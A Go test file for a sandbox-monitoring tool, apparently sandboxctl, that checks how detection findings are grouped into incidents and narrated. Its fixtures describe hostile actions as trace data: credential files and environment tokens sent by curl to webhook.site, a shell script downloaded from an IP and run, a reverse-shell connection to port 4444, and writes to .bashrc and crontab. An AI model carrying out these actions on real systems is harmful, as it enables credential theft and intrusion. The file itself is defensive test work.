package reports

import (
	"fmt"
	"strings"
	"testing"

	"github.com/sandboxctl/sandboxctl/rules"
	"github.com/sandboxctl/sandboxctl/trace"
)

// incidentCase builds a report from events and findings by hand, so each
// case states exactly what the grouping sees.
type incidentCase struct {
	r   *Report
	seq int64
}

func newIncidentCase() *incidentCase {
	return &incidentCase{r: &Report{Sandbox: Sandbox{Home: "/home/u"}, Skill: SkillInfo{Name: "demo"}}}
}

func (c *incidentCase) event(src trace.Source, typ trace.Type, data any) rules.Evidence {
	c.seq++
	c.r.Events = append(c.r.Events, trace.Event{Seq: c.seq, Source: src, Type: typ, ToolCallID: "t1", Data: data})
	return rules.Evidence{Seq: c.seq, Source: src, Type: typ, ToolCallID: "t1", Summary: fmt.Sprintf("%s %d", typ, c.seq)}
}

func (c *incidentCase) finding(id string, sev rules.Severity, harm rules.Harm, ev ...rules.Evidence) {
	c.r.Findings = append(c.r.Findings, rules.Finding{RuleID: id, Title: id, Severity: sev, Confidence: rules.ConfHigh,
		Harm: harm, ToolCallID: "t1", SkillFile: "SKILL.md", SkillLine: 7, Evidence: ev, Message: id})
}

func (c *incidentCase) post(host string) rules.Evidence {
	return c.event(trace.SourceHTTP, trace.TypeHTTP, &trace.HTTPExchange{Method: "POST", URL: "https://" + host + "/x", Host: host, TLS: true})
}

// leak adds a token seen in the request post and copied into a command
// line before, with the two findings the rules give.
func (c *incidentCase) leak(post rules.Evidence, id, planted string, argv rules.Evidence) {
	hit := c.event(trace.SourceCanary, trace.TypeCanaryHit, &trace.CanaryHit{TokenID: id, Kind: "k", Location: planted,
		Encoding: "base64", Channel: rules.ChannelHTTP, Where: "https://x/x", EventSeq: post.Seq})
	c.finding("SBX-EXFIL-001", rules.Critical, rules.HarmExfil, post, hit)
	staged := c.event(trace.SourceCanary, trace.TypeCanaryHit, &trace.CanaryHit{TokenID: id, Kind: "k", Location: planted,
		Encoding: "base64", Channel: "argv", Where: "curl", EventSeq: argv.Seq})
	c.finding("SBX-EXFIL-002", rules.Low, "", argv, staged)
}

type wantIncident struct {
	kind     IncidentKind
	sev      rules.Severity
	dest     string
	path     string
	tokens   int
	findings int
}

func TestIncidents(t *testing.T) {
	tests := []struct {
		name  string
		build func(c *incidentCase)
		want  []wantIncident
	}{
		{name: "no findings", build: func(c *incidentCase) {}, want: nil},
		{name: "aws example: 16 tokens in one POST to webhook.site is one incident", build: func(c *incidentCase) {
			open := c.event(trace.SourceSyscall, trace.TypeOpen, &trace.File{Path: "/home/u/.aws/credentials"})
			env := c.event(trace.SourceSyscall, trace.TypeExec, &trace.Exec{Path: "/usr/bin/env", Argv: []string{"env"}})
			curl := c.event(trace.SourceSyscall, trace.TypeExec, &trace.Exec{Path: "/usr/bin/curl", Argv: []string{"curl", "https://webhook.site/x"}})
			dns := c.event(trace.SourceDNS, trace.TypeDNSQuery, &trace.DNSQuery{Name: "webhook.site.", QType: "A"})
			tls := c.event(trace.SourceTLS, trace.TypeTLSHello, &trace.TLSHello{SNI: "webhook.site", DstIP: "198.18.0.9", DstPort: 443})
			post := c.post("webhook.site")
			for i := range 4 {
				c.leak(post, fmt.Sprintf("aws-%d", i), "~/.aws/credentials", curl)
			}
			for i := range 12 {
				c.leak(post, fmt.Sprintf("env-%d", i), fmt.Sprintf("env:VAR_%d", i), curl)
			}
			c.finding("SBX-NET-003", rules.High, "", curl, dns, tls, post)
			c.finding("SBX-CRED-001", rules.Medium, "", open)
			c.finding("SBX-ENV-001", rules.Medium, "", env)
		}, want: []wantIncident{{kind: KindExfiltration, sev: rules.Critical, dest: "webhook.site", tokens: 16, findings: 35}}},
		{name: "two destinations are two incidents", build: func(c *incidentCase) {
			curl := c.event(trace.SourceSyscall, trace.TypeExec, &trace.Exec{Path: "/usr/bin/curl"})
			a, b := c.post("webhook.site"), c.post("abc.ngrok.io")
			c.leak(a, "tok-1", "~/.env", curl)
			c.leak(b, "tok-2", "~/.env", curl)
			c.finding("SBX-NET-003", rules.High, "", b)
		}, want: []wantIncident{
			{kind: KindExfiltration, sev: rules.Critical, dest: "webhook.site", tokens: 1, findings: 2},
			{kind: KindExfiltration, sev: rules.Critical, dest: "abc.ngrok.io", tokens: 1, findings: 3},
		}},
		{name: "a token staged but never sent is its own low incident", build: func(c *incidentCase) {
			argv := c.event(trace.SourceSyscall, trace.TypeExec, &trace.Exec{Path: "/usr/bin/echo"})
			hit := c.event(trace.SourceCanary, trace.TypeCanaryHit, &trace.CanaryHit{TokenID: "t", Channel: "argv", EventSeq: argv.Seq})
			c.finding("SBX-EXFIL-002", rules.Low, "", argv, hit)
		}, want: []wantIncident{{kind: KindExfiltration, sev: rules.Low, findings: 1}}},
		{name: "persistence: one incident per location", build: func(c *incidentCase) {
			rc1 := c.event(trace.SourceSyscall, trace.TypeOpen, &trace.File{Path: "/home/u/.bashrc", Write: true})
			rc2 := c.event(trace.SourceSyscall, trace.TypeOpen, &trace.File{Path: "/home/u/.bashrc", Write: true})
			cron := c.event(trace.SourceSyscall, trace.TypeOpen, &trace.File{Path: "/var/spool/cron/crontabs/u", Write: true})
			c.finding("SBX-PERSIST-001", rules.High, rules.HarmPersistence, rc1)
			c.finding("SBX-PERSIST-001", rules.High, rules.HarmPersistence, rc2)
			c.finding("SBX-PERSIST-002", rules.High, rules.HarmPersistence, cron)
		}, want: []wantIncident{
			{kind: KindPersistence, sev: rules.High, path: "/home/u/.bashrc", findings: 2},
			{kind: KindPersistence, sev: rules.High, path: "/var/spool/cron/crontabs/u", findings: 1},
		}},
		{name: "dropper chain: download, contact and execution from one host", build: func(c *incidentCase) {
			get := c.event(trace.SourceHTTP, trace.TypeHTTP, &trace.HTTPExchange{Method: "GET", URL: "http://203.0.113.7/s.sh", Host: "203.0.113.7"})
			run := c.event(trace.SourceSyscall, trace.TypeExec, &trace.Exec{Path: "/bin/sh"})
			c.finding("SBX-NET-001", rules.Medium, "", get)
			c.finding("SBX-EXEC-002", rules.Critical, rules.HarmRemoteCode, get, run)
			c.finding("SBX-EXEC-003", rules.Critical, rules.HarmRemoteCode, get, run)
			other := c.post("paste.example.net")
			c.finding("SBX-NET-003", rules.High, "", other)
		}, want: []wantIncident{
			{kind: KindRemoteCode, sev: rules.Critical, dest: "203.0.113.7", findings: 3},
			{kind: KindNetwork, sev: rules.High, dest: "paste.example.net", findings: 1},
		}},
		{name: "reverse shell and its connection", build: func(c *incidentCase) {
			conn := c.event(trace.SourceTCP, trace.TypeConnection, &trace.Connection{Proto: "tcp", DstIP: "203.0.113.5", DstPort: 4444})
			c.finding("SBX-SHELL-001", rules.Critical, rules.HarmRemoteShell, conn)
			c.finding("SBX-SHELL-005", rules.Critical, rules.HarmRemoteShell, conn)
			c.finding("SBX-NET-002", rules.Medium, "", conn)
		}, want: []wantIncident{{kind: KindShell, sev: rules.Critical, dest: "203.0.113.5:4444", findings: 3}}},
		{name: "reconnaissance stays apart from harm", build: func(c *incidentCase) {
			which := c.event(trace.SourceSyscall, trace.TypeExec, &trace.Exec{Path: "/usr/bin/which"})
			c.finding("SBX-RECON-001", rules.Low, "", which)
			c.finding("SBX-RECON-003", rules.Info, "", which)
		}, want: []wantIncident{{kind: KindRecon, sev: rules.Low, findings: 2}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := newIncidentCase()
			tt.build(c)
			got := Incidents(c.r)
			if len(got) != len(tt.want) {
				t.Fatalf("got %d incidents, want %d: %+v", len(got), len(tt.want), got)
			}
			covered := map[int]bool{}
			for i, w := range tt.want {
				g := got[i]
				if g.ID != fmt.Sprintf("I%d", i+1) || g.Kind != w.kind || g.Severity != w.sev || g.Destination != w.dest ||
					g.Path != w.path || len(g.Tokens) != w.tokens || len(g.Findings) != w.findings {
					t.Errorf("incident %d = %s %s %s dest %q path %q, %d tokens, %d findings; want %+v", i, g.ID, g.Kind,
						g.Severity, g.Destination, g.Path, len(g.Tokens), len(g.Findings), w)
				}
				if g.Title == "" || g.Summary == "" || len(g.Evidence) == 0 {
					t.Errorf("incident %d lacks a title, summary or evidence: %+v", i, g)
				}
				for _, f := range g.Findings {
					if covered[f] {
						t.Errorf("finding %d in two incidents", f)
					}
					covered[f] = true
				}
			}
			if len(covered) != len(c.r.Findings) {
				t.Errorf("incidents cover %d of %d findings", len(covered), len(c.r.Findings))
			}
		})
	}
}

func TestNarrative(t *testing.T) {
	tests := []struct {
		name      string
		incidents int
		status    Status
		want      []string
	}{
		{name: "nothing", status: StatusCompleted, want: []string{"nothing the rules flag happened", "Verdict clean"}},
		{name: "error", status: StatusError, want: []string{"ended with status error", "Verdict clean"}},
		{name: "one", incidents: 1, status: StatusCompleted, want: []string{"make 1 incident.", "Summary 1.", "Verdict clean"}},
		{name: "many are counted", incidents: 7, status: StatusCompleted, want: []string{"Summary 2.", "5 other incidents", "Verdict clean"}},
		{name: "three are told", incidents: 3, status: StatusCompleted, want: []string{"Summary 3.", "Verdict clean"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := &Report{Status: tt.status, Verdict: rules.Clean, Reasons: []string{"why"}, Skill: SkillInfo{Name: "demo"}}
			var incs []Incident
			for i := range tt.incidents {
				incs = append(incs, Incident{ID: fmt.Sprintf("I%d", i+1), Severity: rules.High, Title: fmt.Sprintf("Title %d", i+1),
					Summary: fmt.Sprintf("Summary %d.", i+1)})
			}
			n := Narrative(r, incs)
			for _, w := range tt.want {
				if !strings.Contains(n, w) {
					t.Errorf("narrative %q lacks %q", n, w)
				}
			}
			if s := strings.Count(n, ". ") + 1; s < 2 || s > 5 {
				t.Errorf("narrative has %d sentences, want 2 to 5: %q", s, n)
			}
		})
	}
}
